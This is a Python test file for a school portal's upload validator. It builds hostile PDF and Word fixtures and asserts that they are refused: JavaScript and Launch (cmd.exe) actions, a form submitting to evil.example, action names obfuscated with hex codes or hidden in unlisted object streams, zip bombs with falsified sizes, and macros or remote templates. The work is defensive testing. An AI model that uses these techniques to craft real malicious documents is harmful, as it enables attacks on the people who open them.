"""What is handed in is judged by what it holds, not by what it says of itself."""

import io
import struct
import zipfile
import zlib

import pytest
import typst
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject
from tests.pdfs import written

from schoolgate.portal.requests import uploads

MIB = 1024 * 1024


def judged(content: bytes, name: str = "report.pdf") -> uploads.Judged:
    return uploads.judge(SimpleUploadedFile(name, content))


def action(writer: PdfWriter, kind: str, **more: str) -> None:
    held = {"/S": NameObject(kind)} | {f"/{key}": TextStringObject(value) for key, value in more.items()}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(key): value for key, value in held.items()}
    )


def packed(*objects: bytes) -> bytes:
    """Return a PDF whose catalogue and other objects lie in an object stream, and are listed in a stream."""
    places, body = [], b""
    for number, held in enumerate(objects, 1):
        places.append(f"{number} {len(body)}")
        body += held + b"\n"
    head = " ".join(places).encode() + b"\n"
    inside = zlib.compress(head + body)
    last = len(objects) + 1
    out = b"%PDF-1.7\n"
    at = len(out)
    told = f"{last} 0 obj\n<</Type/ObjStm/N {len(objects)}/First {len(head)}/Length {len(inside)}/Filter/FlateDecode>>"
    out += told.encode() + b"\nstream\n" + inside + b"\nendstream\nendobj\n"
    table_at = len(out)
    rows = [(0, 0, 65535), *((2, last, index) for index in range(len(objects))), (1, at, 0), (1, table_at, 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    told = (
        f"{last + 1} 0 obj\n<</Type/XRef/Size {len(rows)}/W[1 4 2]/Root 1 0 R/Length {len(table)}/Filter/FlateDecode>>"
    )
    return out + told.encode() + b"\nstream\n" + table + f"\nendstream\nendobj\nstartxref\n{table_at}\n%%EOF".encode()


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES, PAGE = b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def unlisted(content: bytes) -> bytes:
    """Return the PDF with an object that its table does not list, as a reader finds it that rebuilds the table."""
    return content + b"\n9 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n%%EOF"


def unlisted_stream(content: bytes) -> bytes:
    held = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    told = f"\n8 0 obj\n<</Type/ObjStm/N 1/First 4/Length {len(held)}/Filter/FlateDecode>>\nstream\n"
    return content + told.encode() + held + b"\nendstream\nendobj\n%%EOF"


def locked(writer: PdfWriter) -> None:
    writer.encrypt("secret", algorithm="AES-256")


def rich(writer: PdfWriter) -> None:
    media = {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/RichMedia")}
    writer.pages[0][NameObject("/Annots")] = ArrayObject([DictionaryObject(media)])


def form_of_another_kind(writer: PdfWriter) -> None:
    form = DictionaryObject({NameObject("/XFA"): writer._add_object(StreamObject())})
    writer.root_object[NameObject("/AcroForm")] = form


HARMFUL = {
    "a script that runs when it is opened": written(lambda writer: action(writer, "/JavaScript", JS="app.alert(1)")),
    "a programme to start": written(lambda writer: action(writer, "/Launch", F="cmd.exe")),
    "a form that sends": written(lambda writer: action(writer, "/SubmitForm", F="https://evil.example")),
    "a file inside": written(lambda writer: writer.add_attachment("rows.csv", b"100001")),
    "rich media": written(rich),
    "a form with scripts of its own": written(form_of_another_kind),
    "a script in an object stream": packed(CATALOGUE % b"/OpenAction<</S/JavaScript/JS(1)>>", PAGES, PAGE),
    "a short name in an object stream": packed(CATALOGUE % b"/AA<</WC<</S/Named/JS(1)>>>>", PAGES, PAGE),
    "a name spelt by codes": packed(CATALOGUE % b"/OpenAction<</S/J#61va#53cript>>", PAGES, PAGE),
    "a name spelt by codes, in the clear": unlisted(written()).replace(b"JavaScript/JS", b"#4aavaScrip#74/J#53"),
    "a script that no table lists": unlisted(written()),
    "a script in a stream that no table lists": unlisted_stream(written()),
}


@pytest.mark.parametrize("content", HARMFUL.values(), ids=HARMFUL)
def test_a_pdf_that_does_more_than_show_pages_is_refused(content: bytes) -> None:
    assert "scripts or other files" in judged(content).fault


BROKEN = {
    "cut in the middle": written()[:200],
    "nothing but a beginning": b"%PDF-1.7\n",
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "tables in a circle": packed(CATALOGUE % b"", PAGES, PAGE).replace(b"/W[1 4 2]", b"/W[9 9 9]"),
}


@pytest.mark.parametrize("content", BROKEN.values(), ids=BROKEN)
def test_a_pdf_that_cannot_be_read_is_not_taken(content: bytes) -> None:
    assert "damaged" in judged(content).fault


def test_a_pdf_behind_a_password_is_not_taken_for_nobody_can_look_inside() -> None:
    assert "password" in judged(written(locked)).fault


def test_a_pdf_that_unpacks_to_more_than_anybody_looks_through_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("schoolgate.portal.requests.pdfs._MOST_OF_ALL", MIB)
    stream = zlib.compress(bytes(2 * MIB))
    content = written() + f"\n9 0 obj\n<</Length {len(stream)}>>\nstream\n".encode() + stream + b"\nendstream\nendobj"
    assert "too much" in judged(content).fault


def test_ordinary_pdfs_are_taken() -> None:
    page = typst.compile(
        b'#set document(title: "JavaScript") \n = /JS and JavaScript \n A script: /EF. @@'.split(b"@")[0]
    )
    for content in (written(), packed(CATALOGUE % b"/OpenAction[3 0 R/Fit]", PAGES, PAGE), page):
        assert judged(content) == uploads.Judged("application/pdf")


WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>" * 99}


def word(parts: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", kind) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def lying(content: bytes, name: bytes, claimed: int) -> bytes:
    """Return the zip with another size for a part, in its own head and in the list of contents."""
    changed = bytearray(content)
    for sign, at_size, at_name in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = -1
        while (at := content.find(sign, at + 1)) >= 0:
            if content[at + at_name :].startswith(name):
                changed[at + at_size : at + at_size + 4] = struct.pack("<I", claimed)
    return bytes(changed)


@pytest.mark.parametrize("kind", [zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED], ids=["packed", "stored"])
def test_an_ordinary_word_document_is_taken(kind: int) -> None:
    assert judged(word(WORD, kind)).media_type.endswith("wordprocessingml.document")
    assert judged(word({**WORD, "word/media/a.png": bytes(range(256)) * 4_000}, kind)).fault == ""


def test_a_zip_bomb_that_claims_to_be_small_is_counted_byte_by_byte() -> None:
    bomb = word({**WORD, "word/media/a.png": bytes(101 * MIB)})
    assert "too much" in judged(lying(bomb, b"word/media/a.png", 1_000)).fault


def test_many_parts_that_are_too_much_together_are_refused() -> None:
    parts = {f"word/media/{nth}.png": bytes(11 * MIB) for nth in range(10)}
    assert "too much" in judged(word({**WORD, **parts})).fault
    assert "too much" in judged(word({**WORD, **{f"word/{nth}.xml": b"" for nth in range(2_001)}})).fault


def damaged() -> dict[str, bytes]:
    good = word(WORD)
    flipped = bytearray(good)
    flipped[good.index(b"word/document.xml") + len(b"word/document.xml") + 4] ^= 0xFF
    locals_name = good.replace(b"word/document.xml", b"word/DOCUMENT.xml", 1)
    hidden = bytearray(good)
    hidden[good.rindex(b"PK\x01\x02") + 8] |= 1
    return {
        "a size that is not true": lying(good, b"word/document.xml", 7),
        "a byte that fell over": bytes(flipped),
        "one name outside and another inside": locals_name,
        "a part behind a password": bytes(hidden),
        "a way of packing that nobody uses": word(WORD, zipfile.ZIP_LZMA),
        "cut at its end": good[:-30],
    }


@pytest.mark.parametrize("content", damaged().values(), ids=damaged())
def test_a_zip_that_two_programmes_may_unpack_differently_is_not_taken(content: bytes) -> None:
    assert "damaged" in judged(content).fault


def test_parts_that_share_their_bytes_are_not_taken() -> None:
    good = word(WORD)
    first, second = good.index(b"PK\x01\x02"), good.rindex(b"PK\x01\x02")
    shared = bytearray(good)
    shared[second + 42 : second + 46] = good[first + 42 : first + 46]
    assert "damaged" in judged(bytes(shared)).fault


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("word/vbaProject.bin", b"code", id="a macro"),
        pytest.param(
            "[Content_Types].xml",
            b'<Override ContentType="application/vnd.ms-word.document.macroEnabled"/>',
            id="a type",
        ),
        pytest.param(
            "word/_rels/settings.xml.rels",
            b'<Relationship Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm"/>',
            id="a template elsewhere",
        ),
    ],
)
def test_a_document_that_brings_or_fetches_macros_is_refused(name: str, content: bytes) -> None:
    assert "macros" in judged(word({**WORD, name: content})).fault
